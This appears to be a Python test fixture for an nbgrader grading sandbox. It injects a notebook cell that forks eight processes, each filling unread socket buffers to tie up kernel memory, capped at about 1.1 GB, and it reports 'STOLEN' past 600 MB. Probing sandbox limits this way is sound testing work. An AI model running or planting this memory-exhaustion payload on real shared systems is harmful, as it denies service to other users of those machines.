"""Fills sockets that nobody reads from, in many processes: their contents are the kernel's memory.

Stock nbgrader: gigabytes. Here it stops at 1.1 GB, to spare the machine.
"""

CELLS = {
    "extra first cell": """
import os
import select
import socket
import time

full, filled = os.pipe()
for _ in range(8):
    if os.fork() == 0:
        pairs, held = [], 0
        try:
            while len(pairs) < 115 and held < 140_000_000:
                pairs.append(socket.socketpair())
                for one in pairs[-1]:
                    one.setblocking(False)
                    try:
                        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
                    except OSError:
                        pass
                    try:
                        while held < 140_000_000:
                            held += one.send(bytes(1 << 16))
                    except BlockingIOError:
                        pass
        except OSError:
            pass
        os.write(filled, held.to_bytes(8, "little"))
        time.sleep(20)
        os._exit(0)
held = 0
for _ in range(8):
    if select.select([full], [], [], 2.0)[0]:
        held += int.from_bytes(os.read(full, 8), "little")
if held > 600_000_000:
    print("STOLEN", held)
"""
}
